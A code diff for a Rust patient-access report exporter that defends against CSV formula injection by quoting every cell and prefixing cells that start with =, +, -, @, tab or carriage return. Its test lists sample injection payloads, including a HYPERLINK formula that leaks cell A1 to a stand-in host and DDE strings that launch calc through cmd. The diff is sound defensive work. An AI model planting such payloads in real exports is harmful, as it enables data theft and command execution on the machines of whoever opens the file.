@@ -139,9 +139,24 @@ pub fn build(
     }
 }
 
-/// One CSV row per access (the full list), header first.
+/// A cell a spreadsheet would not run as a formula (OWASP CSV injection):
+/// one starting with `=`, `+`, `-`, `@`, tab or carriage return (after any
+/// leading spaces) gets a `'` in front; the writer quotes every cell.
+pub fn csv_cell(value: String) -> String {
+    let first = value.trim_start_matches(' ').chars().next();
+    if matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')) {
+        format!("'{value}")
+    } else {
+        value
+    }
+}
+
+/// One CSV row per access (the full list), header first. Every cell is
+/// quoted and neutralized by [`csv_cell`]: the values come from senders.
 pub fn to_csv(report: &PatientAccessReport) -> Result<String, csv::Error> {
-    let mut w = csv::Writer::from_writer(Vec::new());
+    let mut w = csv::WriterBuilder::new()
+        .quote_style(csv::QuoteStyle::Always)
+        .from_writer(Vec::new());
     w.write_record([
         "index",
         "time",
@@ -159,21 +174,24 @@ pub fn to_csv(report: &PatientAccessReport) -> Result<String, csv::Error> {
     ])?;
     for a in &report.accesses {
         let opt = |v: &Option<String>| v.clone().unwrap_or_default();
-        w.write_record([
-            a.index.to_string(),
-            a.time.clone(),
-            opt(&a.user),
-            opt(&a.name),
-            opt(&a.role),
-            opt(&a.department),
-            a.category.clone(),
-            a.action.clone(),
-            a.outcome.clone(),
-            opt(&a.reason),
-            opt(&a.resource),
-            opt(&a.source),
-            a.records.map(|r| r.to_string()).unwrap_or_default(),
-        ])?;
+        w.write_record(
+            [
+                a.index.to_string(),
+                a.time.clone(),
+                opt(&a.user),
+                opt(&a.name),
+                opt(&a.role),
+                opt(&a.department),
+                a.category.clone(),
+                a.action.clone(),
+                a.outcome.clone(),
+                opt(&a.reason),
+                opt(&a.resource),
+                opt(&a.source),
+                a.records.map(|r| r.to_string()).unwrap_or_default(),
+            ]
+            .map(csv_cell),
+        )?;
     }
     let bytes = w.into_inner().map_err(|e| e.into_error())?;
     Ok(String::from_utf8_lossy(&bytes).into_owned())
@@ -270,9 +288,12 @@ mod tests {
         let reason = reason
             .map(|r| format!(r#","reason":"{r}""#))
             .unwrap_or_default();
-        let json = format!(
-            r#"{{"time":"{time}","category":"access","action":"{action}","outcome":"success","actor":{{"user":"{user}","role":"clinician"}},"patient":{{"id":"MRN-1"}}{reason}}}"#
-        );
+        let mut doc: serde_json::Value = serde_json::from_str(&format!(
+            r#"{{"time":"{time}","category":"access","action":"{action}","outcome":"success","actor":{{"user":"","role":"clinician"}},"patient":{{"id":"MRN-1"}}{reason}}}"#
+        ))
+        .unwrap();
+        doc["actor"]["user"] = user.into();
+        let json = doc.to_string();
         Entry {
             received: Timestamp::parse(time).unwrap(),
             via: Via {
@@ -327,10 +348,63 @@ mod tests {
         let r = build("MRN-1", None, None, hits);
         let csv = to_csv(&r).unwrap();
         assert_eq!(csv.lines().count(), 2);
-        assert!(csv.starts_with("index,time,user"));
+        assert!(csv.starts_with("\"index\",\"time\",\"user\""));
         let html = to_html(&r);
         assert!(html.contains("u&lt;script&gt;") && !html.contains("<script>"));
         assert!(html.contains("<td>1</td>"));
+    }
+
+    /// Probe finding: formula cells were written raw.
+    #[test]
+    fn csv_cells_that_a_spreadsheet_would_run_are_neutralized() {
+        let evil = [
+            "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
+            "+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "\t=1+1",
+            "\r=1+1",
+            "  =1+1",
+        ];
+        let hits: Vec<(u64, Entry)> = evil
+            .iter()
+            .enumerate()
+            .map(|(i, e)| {
+                let mut en = entry(e, "view", "2026-01-01T10:00:00Z", None);
+                en.event.reason = Some((*e).to_owned());
+                (i as u64, en)
+            })
+            .collect();
+        let r = build("MRN-1", None, None, hits);
+        let csv = to_csv(&r).unwrap();
+        let mut rows = csv::Reader::from_reader(csv.as_bytes());
+        let mut n = 0;
+        for row in rows.records() {
+            let row = row.unwrap();
+            for cell in row.iter() {
+                let first = cell.trim_start_matches(' ').chars().next();
+                assert!(
+                    !matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')),
+                    "a cell starts a formula: {cell:?}"
+                );
+            }
+            // The value is kept after the quote mark.
+            let user = &row[2];
+            assert!(evil.iter().any(|e| user == format!("'{e}")), "{user:?}");
+            n += 1;
+        }
+        assert_eq!(n, evil.len());
+        // Every cell quoted; ordinary values untouched.
+        assert!(csv.contains("\"view\""), "{csv}");
+        // The HTML report escapes the same values.
+        let html = to_html(&r);
+        assert!(html.contains("&quot;click&quot;") && !html.contains("\"click\""));
+        assert!(html.contains("+cmd|&#39; /C calc&#39;!A0"));
+        assert_eq!(csv_cell("MRN-1".into()), "MRN-1");
+        assert_eq!(
+            csv_cell("2026-01-01T10:00:00Z".into()),
+            "2026-01-01T10:00:00Z"
+        );
     }
 
     #[test]
